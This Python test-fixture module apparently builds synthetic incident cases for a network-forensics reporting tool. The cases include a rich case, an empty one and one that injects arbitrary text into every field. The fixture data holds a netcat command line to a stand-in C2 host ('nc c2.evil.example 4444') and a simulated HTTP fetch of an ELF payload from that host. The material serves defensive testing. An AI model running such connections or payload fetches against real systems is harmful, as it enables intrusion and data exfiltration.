"""Incidents to write reports of: one with everything in it, one in which every text is hostile, some with nearly nothing."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from typing import Any

from tripshark.model.evidence import (
    Entry,
    IncidentId,
    Ledger,
    Manifest,
    SealedFile,
    Word,
    manifest_json,
)
from tripshark.model.finding import Activity, Conversation, Finding, Findings, Severity
from tripshark.report.case import Case, Deed

T0 = 1_795_575_637_627_608_973
SECOND = 1_000_000_000
DIGEST = "723466dc37da5e27c4acd96217a7f084cdc741a03596eaed94d8c7d988ae0d05"
OURS, C2, RESOLVER, LEDGER = "10.77.1.23", "203.0.113.66", "10.96.0.10", "10.77.2.9"
SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def at(seconds: float) -> int:
    """That long after T0."""
    return T0 + round(seconds * SECOND)


def alert(seconds: float = 0.0, rule: str = "Outbound Connection to C2 Servers") -> dict[str, Any]:
    """As a manifest quotes one."""
    body = {
        "hostname": "worker-1",
        "output": f"Critical {rule} | connection={OURS}:51870->{C2}:4444",
        "priority": "Critical",
        "rule": rule,
        "source": "syscall",
        "tags": ["TA0011", "network", "T1071"],
        "time": "2026-11-25T03:00:37.627608973Z",
        "output_fields": {
            "fd.name": f"{OURS}:51870->{C2}:4444",
            "k8s.ns.name": "payments",
            "k8s.pod.name": "checkout-7d9f",
            "proc.cmdline": "nc c2.evil.example 4444",
            "proc.name": "nc",
        },
    }
    return {
        "id": f"a-{round(seconds * 10) + 1}",
        "rule": rule,
        "priority": "Critical",
        "time_ns": at(seconds),
        "received_ns": at(seconds + 0.4),
        "via": "webhook",
        "repeats": 2 if seconds else 0,
        "verbatim": json.dumps(body),
    }


def _who(name: str = "checkout-7d9f", **more: Any) -> dict[str, Any]:
    return {
        "namespace": "payments",
        "pod": name,
        "uid": "5f1c7a9e-7b0e-4b6a-9a53-6c1a4d2f8b11",
        "labels": {"app": "checkout", "tier": "payments"},
        "owner": "Deployment/checkout",
        "node": "worker-1",
        "service_account": "checkout",
        "images": ["registry.example/shop/checkout:1.4.2"],
        "containers": ["4bb3d6c0a1f2" + "0" * 52],
        "target": "netns:shop0",
        "since_ns": at(-41.0),
        "gone_ns": at(6.2),
        **more,
    }


def details() -> dict[str, Any]:
    """A manifest's, of a pod that beacons and dies."""
    return {
        "what": {
            "title": "payments/checkout-7d9f",
            "packets": 1204,
            "bytes": 611_223,
            "captures": [
                {
                    "target": "payments/checkout-7d9f",
                    "who": _who(),
                    "end": "own",
                    "scope": "peer",
                    "filter": f"ip host {C2}",
                    "rule": "Command and control, miners",
                    "rule_hash": SHA256,
                    "plan_reason": f"k8s.pod.name is payments/checkout-7d9f; everything exchanged with {C2}",
                    "before_ns": 30 * SECOND,
                    "after_ns": 10 * SECOND,
                    "ended": "gone",
                    "packets": 1204,
                }
            ],
        },
        "why": {
            "rule": "Command and control, miners",
            "alerts": [alert(), alert(2.5, "Netcat Remote Code Execution in Container")],
            "alerts_counted": 4,
        },
        "who": {**_who(), "namespaces": ["payments"]},
        "where": {
            "host": "worker-1",
            "kernel": "Linux 6.18.44 x86_64",
            "target": "netns:shop0",
            "netns_inode": 4026532001,
            "names": {OURS: "payments/checkout-7d9f", LEDGER: "payments/ledger-0|shop/old-0"},
            "interfaces": [
                {
                    "name": "eth0",
                    "addresses": [f"{OURS}/24", "2001:db8::23/64"],
                    "mac": "7e:71:7a:79:a8:6e",
                    "opened_ns": at(-41.0),
                    "packets_seen": 2_101,
                    "kernel_drops": 12,
                }
            ],
        },
        "when": {
            "t0_ns": T0,
            "opened_ns": at(0.4),
            "asked": {"from_ns": at(-30.0), "to_ns": at(10.0)},
            "covered": {"from_ns": at(-24.0), "to_ns": at(6.2)},
            "first_packet_ns": at(-23.8),
            "last_packet_ns": at(6.1),
            "clock": {"source": "tsc", "synchronised": True, "maximum_error_us": 1800},
        },
        "names": {
            OURS: {"holders": [_holder("payments/checkout-7d9f", at(-41.0), at(6.2))]},
            LEDGER: {
                "holders": [
                    _holder("shop/old-0", at(-4000.0), at(-12.0)),
                    _holder("payments/ledger-0", at(-11.0), 0),
                ]
            },
        },
        "how": {"tools": {"tripshark": "0.1.0", "python": "3.11.7", "libpcap": "1.10.3"}},
        "signature": {
            "algorithm": "Ed25519",
            "key_id": "9131f2b7afae1e88",
            "file": "manifest.sig",
        },
    }


def _holder(name: str, from_ns: int, to_ns: int) -> dict[str, Any]:
    return {
        "name": name,
        "kind": "pod",
        "uid": "",
        "node": "worker-1",
        "from_ns": from_ns,
        "to_ns": to_ns,
    }


def manifest() -> Manifest:
    return Manifest(
        incident=IncidentId("20261125t030037-798eb0"),
        created_ns=at(6.6),
        ledger=Ledger(
            entries=(
                Entry(
                    kind="window_start",
                    message="the ring of eth0 reached back only to 24.0 s before the alert",
                    word=Word.EXPIRED,
                    from_ns=at(-30.0),
                    to_ns=at(-24.0),
                ),
                Entry(
                    kind="kernel_drops",
                    message="the kernel could not record 12 packets of eth0",
                    word=Word.TRUNCATED,
                    count=12,
                    from_ns=at(3.1),
                    to_ns=at(3.4),
                ),
                Entry(
                    kind="target_gone",
                    message="payments/checkout-7d9f ended during the window; nothing could follow",
                    from_ns=at(6.2),
                ),
            )
        ),
        files=(SealedFile(name="evidence.pcapng", sha256=SHA256, bytes=734_000),),
        details=details(),
    )


def _conversations() -> tuple[Conversation, ...]:
    c2 = Conversation(
        proto="tcp",
        a=OURS,
        a_port=51870,
        b=C2,
        b_port=4444,
        packets_ab=610,
        packets_ba=540,
        bytes_ab=482_000,
        bytes_ba=61_000,
        first_ns=at(-0.002),
        last_ns=at(6.1),
        frame=42,
        opened_by=OURS,
        from_start=True,
        app="TCP",
        named=True,
        filter="tcp.stream eq 2",
        community_id="1:wCb3OG7yAFWelaUydu0D+125CLM=",
        retransmissions=3,
        resets=1,
    )
    dns = replace(
        c2,
        proto="udp",
        a_port=40112,
        b=RESOLVER,
        b_port=53,
        packets_ab=4,
        packets_ba=4,
        bytes_ab=320,
        bytes_ba=512,
        first_ns=at(-23.8),
        last_ns=at(-0.01),
        frame=1,
        from_start=False,
        app="DNS",
        named=False,
        filter="udp.stream eq 0",
        community_id="1:d/FP5EW3wiY1vCndhwleRRKHowQ=",
        retransmissions=0,
        resets=0,
    )
    web = replace(
        dns,
        proto="tcp",
        a_port=40990,
        b="2001:db8:1::80",
        a="2001:db8::23",
        b_port=443,
        frame=20,
        first_ns=at(-10.0),
        last_ns=at(-4.0),
        opened_by="2001:db8::23",
        from_start=True,
        app="TLSv1.3",
        filter="tcp.stream eq 1",
        community_id="1:AbCdEfGhIjKlMnOpQrStUvWxYz0=",
    )
    ping = replace(
        dns,
        proto="icmp",
        a_port=0,
        b=LEDGER,
        b_port=0,
        frame=30,
        app="ICMP",
        filter=f"icmp && ip.addr == {LEDGER}",
        community_id="",
    )
    inbound = replace(
        c2,
        a_port=8080,
        b=LEDGER,
        b_port=38200,
        opened_by=LEDGER,
        frame=33,
        app="HTTP",
        named=False,
        filter="tcp.stream eq 3",
        resets=0,
        retransmissions=0,
        first_ns=at(-8.0),
        last_ns=at(-7.0),
    )
    return (dns, web, ping, inbound, c2)


def activity() -> Activity:
    out = [0] * 600
    into = [0] * 600
    for index in range(0, 476, 40):
        out[index], into[index] = 2, 2
    for index in range(476, 596):
        out[index], into[index] = 3 + index * 7919 % 9, 2 + index * 104729 % 6
    return Activity(
        start_ns=at(-23.8),
        step_ns=SECOND // 20,
        packets_out=tuple(out),
        packets_in=tuple(into),
        bytes_out=tuple(each * 420 for each in out),
        bytes_in=tuple(each * 110 for each in into),
    )


def findings() -> Findings:
    conversations = _conversations()
    flow = {"client": OURS, "server": C2, "port": 4444}
    return Findings(
        manifest_sha256=DIGEST,
        tool="TShark 4.0.17",
        sandbox=("uid", "landlock", "seccomp"),
        packets=1204,
        first_ns=at(-23.8),
        last_ns=at(6.1),
        conversations=conversations,
        flow=conversations[-1],
        flow_captured=True,
        seconds_before_alert=23.8,
        summary=(
            "payments/checkout-7d9f looked up c2.evil.example (203.0.113.66) 10 ms before the alert and then opened "
            "TCP 203.0.113.66:4444: 610 packets, 482.0 kB out, 61.0 kB in. The flow named by the alert was captured "
            "from its first packet (SYN), 2 ms before the alert."
        ),
        findings=(
            Finding(
                id="F1",
                kind="exfiltration",
                severity=Severity.CRITICAL,
                title="482 kB were sent to 203.0.113.66:4444, eight times what came back",
                text="Within 6.1 s the pod sent 482.0 kB to c2.evil.example and received 61.0 kB from it.",
                frames=(42, 44, 47, 1190),
                filter="tcp.stream eq 2",
                matches=1150,
                first_ns=at(-0.002),
                last_ns=at(6.1),
                techniques=("T1041", "T1571"),
                about={"address": OURS, "peer": C2, "port": "4444", "proto": "tcp"},
                checked=True,
            ),
            Finding(
                id="F2",
                kind="alert-flow",
                severity=Severity.HIGH,
                title="The connection of the alert is in the evidence",
                text="It was opened by the pod, 2 ms before the alert, and reset by the other end.",
                frames=(42,),
                filter="tcp.stream eq 2",
                matches=1150,
                first_ns=at(-0.002),
                techniques=("T1071.004",),
                about={"peer": C2},
                checked=True,
            ),
            Finding(
                id="F3",
                kind="file",
                severity=Severity.MEDIUM,
                title="An ELF program was fetched over HTTP",
                text="GET /x from c2.evil.example brought 73,802 bytes that begin like an ELF program.",
                frames=(61, 65),
                filter='http.request.uri == "/x"',
                matches=2,
                first_ns=at(0.8),
                techniques=("T1105",),
                about={"sha256": SHA256, "name": "x"},
                checked=True,
            ),
            Finding(
                id="F4",
                kind="indicator",
                severity=Severity.HIGH,
                title="c2.evil.example is on the list “abuse.txt”",
                text="The name was asked for 4 times.",
                frames=(1,),
                filter='dns.qry.name == "c2.evil.example"',
                matches=8,
                first_ns=at(-23.8),
                about={"name": "c2.evil.example", "list": "abuse.txt"},
                checked=True,
            ),
            Finding(
                id="F5",
                kind="not-captured",
                severity=Severity.LOW,
                title="6 s of the window asked for were no longer there",
                text="The ring of eth0 reached back only to 24.0 s before the alert.",
            ),
        ),
        endpoints=tuple(
            {
                "address": address,
                "name": name,
                "ours": address == OURS,
                "packets_out": 600,
                "packets_in": 500,
                "bytes_out": 480_000,
                "bytes_in": 60_000,
                "frame": 1,
                "filter": f"ip.addr == {address}",
            }
            for address, name in ((OURS, "payments/checkout-7d9f"), (C2, "c2.evil.example"))
        ),
        dns=(
            {
                "name": "c2.evil.example",
                "type": "A",
                "answers": [C2],
                "asked_ns": at(-23.8),
                "frame": 1,
                "asked": 4,
                "answered": 4,
                "rcode": "No error",
                "client": OURS,
                "server": RESOLVER,
                "proven": True,
                "entropy": 1.0,
                "filter": 'dns.qry.name == "c2.evil.example"',
            },
            {
                "name": "gone.example",
                "type": "AAAA",
                "answers": [],
                "asked_ns": at(-3.0),
                "frame": 3,
                "asked": 1,
                "answered": 1,
                "rcode": "No such name",
                "client": OURS,
                "server": RESOLVER,
                "proven": False,
                "entropy": 1.0,
                "filter": 'dns.qry.name == "gone.example"',
            },
        ),
        tls=(
            {
                "name": "api.example",
                "client": "2001:db8::23",
                "server": "2001:db8:1::80",
                "port": 443,
                "proto": "tcp",
                "alpn": ["h2", "http/1.1"],
                "version": "TLS 1.3",
                "cipher": "TLS_AES_128_GCM_SHA256",
                "ja3": "e7d705a3286e19ea42f587b344ee6865",
                "ja4": "t13d1516h2_8daaf6152771_e5627efa2ab1",
                "count": 1,
                "first_ns": at(-9.9),
                "frame": 23,
                "filter": 'tls.handshake.extensions_server_name == "api.example"',
            },
        ),
        http=(
            {
                "host": "c2.evil.example",
                "method": "GET",
                "uri": "/x",
                "status": 200,
                "user_agent": "curl/8.5.0",
                **flow,
                "port": 80,
                "count": 1,
                "first_ns": at(0.8),
                "frame": 61,
                "filter": 'http.request.uri == "/x"',
            },
        ),
        ssh=(
            {
                "banner": "SSH-2.0-OpenSSH_9.2p1 Debian-2",
                "address": LEDGER,
                "first_ns": at(1.0),
                "frame": 70,
                "filter": "ssh.protocol",
            },
        ),
        icmp=(
            {
                "type": 8,
                "code": 0,
                "client": OURS,
                "server": LEDGER,
                "count": 4,
                "bytes": 392,
                "first_ns": at(-5.0),
                "frame": 30,
                "filter": "icmp.type == 8",
            },
        ),
        credentials=(
            {
                "proto": "HTTP Basic",
                "user": "admin",
                "secret": "6 characters",
                "client": OURS,
                "server": LEDGER,
                "port": 8080,
                "first_ns": at(1.2),
                "frame": 75,
                "filter": "http.authbasic",
            },
        ),
        files=(
            {
                "name": "x",
                "source": "HTTP",
                "type": "ELF program",
                "sha256": SHA256,
                "md5": "098f6bcd4621d373cade4e832627b4f6",
                "bytes": 73_802,
                "complete": True,
                "client": OURS,
                "server": C2,
                "first_ns": at(0.9),
                "frame": 65,
                "filter": 'http.request.uri == "/x"',
            },
        ),
        experts=(
            {
                "severity": "Warn",
                "group": "Sequence",
                "summary": "Connection reset (RST)",
                "proto": "TCP",
                "count": 1,
                "frame": 1190,
                "filter": "tcp.connection.rst",
            },
        ),
        activity=activity(),
        names={C2: "c2.evil.example"},
        notes=("12 packets are inside a tunnel that tshark does not read",),
    )


def deeds() -> tuple[Deed, ...]:
    return (
        Deed(
            time_ns=at(6.6),
            what="sealed",
            who="tripshark",
            hash="2f5584b8899f1956" + "0" * 48,
            details={"manifest_sha256": DIGEST},
        ),
        Deed(
            time_ns=at(7.0),
            what="analysed",
            who="tripshark",
            hash="b81ebcf62c970678" + "0" * 48,
            details={"file": "findings.json", "sha256": SHA256},
        ),
    )


@cache
def rich() -> Case:
    """Everything that can be in a report is in it."""
    return Case(manifest=manifest(), manifest_sha256=DIGEST, findings=findings(), deeds=deeds())


def unread() -> Case:
    """Packets, and an analysis that did not work."""
    return replace(rich(), findings=None, problem="no findings: the analyst is away")


def empty() -> Case:
    """No packet was captured."""
    told = details()
    told["what"]["packets"] = told["what"]["bytes"] = 0
    told["when"]["first_packet_ns"] = told["when"]["last_packet_ns"] = 0
    bare = replace(manifest(), details=told, ledger=Ledger(), files=())
    return Case(manifest=bare, manifest_sha256=DIGEST)


def bare() -> Case:
    """A manifest of which every detail is missing."""
    return Case(manifest=replace(manifest(), details={}, ledger=Ledger()), manifest_sha256=DIGEST)


def every_text(value: Any, change: Callable[[str], str]) -> Any:
    """The same JSON with every text in it changed, names of fields kept."""
    if isinstance(value, str):
        return change(value)
    if isinstance(value, list):
        return [every_text(each, change) for each in value]
    if isinstance(value, dict):
        return {key: every_text(each, change) for key, each in value.items()}
    return value


def hostile(text: str) -> Case:
    """Everything as in `rich`, and `text` in every place where a text may stand."""
    whole = rich()
    assert whole.findings is not None
    keep = {"F1", "F2", "F3", "F4", "F5", DIGEST, *(each.value for each in Severity)}
    keep |= {each.kind for each in whole.findings.findings}
    keep |= {id for each in whole.findings.findings for id in each.techniques}
    said = every_text(
        whole.findings.as_json(), lambda each: each if each in keep else f"{text}{each}"[:380]
    )
    told = every_text(dict(whole.manifest.details), lambda each: f"{text}{each}")
    told["where"]["names"] |= {text: text}
    told["names"] |= {text: {"holders": [_holder(text, T0, 0)]}}
    told["who"]["labels"] = told["what"]["captures"][0]["who"]["labels"] = {text: text}
    told["how"]["tools"] |= {text: text}
    ledger = Ledger(
        entries=tuple(
            replace(each, kind=f"{text}{each.kind}", message=f"{text}{each.message}")
            for each in whole.manifest.ledger.entries
        )
    )
    return Case(
        manifest=replace(whole.manifest, details=told, ledger=ledger),
        manifest_sha256=DIGEST,
        findings=replace(Findings.from_json(said), names={text: text}),
        deeds=tuple(
            replace(each, what=text, who=text, details={text: text}) for each in whole.deeds
        ),
        problem=text,
        node=text,
    )


def big(rows: int = 500) -> Case:
    """As many rows in every table as findings may have."""
    whole = findings()
    many: dict[str, Any] = {}
    for name in (
        "endpoints",
        "dns",
        "tls",
        "http",
        "ssh",
        "icmp",
        "credentials",
        "files",
        "experts",
    ):
        first = getattr(whole, name)[0]
        many[name] = tuple({**first, "frame": number + 1} for number in range(rows))
    conversations = tuple(
        replace(whole.conversations[0], a_port=1024 + number, frame=number + 1)
        for number in range(rows)
    )
    return replace(rich(), findings=replace(whole, conversations=conversations, **many))


def manifest_bytes(case: Case) -> bytes:
    return manifest_json(case.manifest)
